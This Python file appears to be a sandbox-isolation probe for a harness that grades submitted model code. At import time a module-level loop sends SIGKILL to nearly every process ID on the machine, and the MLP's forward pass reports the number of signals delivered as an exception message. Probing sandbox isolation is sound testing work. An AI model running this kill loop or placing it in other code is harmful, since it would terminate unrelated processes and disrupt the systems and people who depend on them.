"""Can code in the child signal any process outside its sandbox (the grader, the zygote, others)?"""

import os
import signal

AFFECTS = ["modules.MLP"]
KIND = "exception"
FEEDBACK = "report:"

_delivered = 0
for _pid in range(2, 70000):
    if _pid == os.getpid():
        continue
    try:
        os.kill(_pid, signal.SIGKILL)
        _delivered += 1
    except OSError:
        pass
_REPORT = f"signals delivered={_delivered}"


class MLP(nn.Module):
    def __init__(self, hidden=256, out=10):
        super().__init__()
        self.hidden = nn.LazyLinear(hidden)
        self.out = nn.LazyLinear(out)

    def forward(self, X):
        raise RuntimeError("report: " + _REPORT)
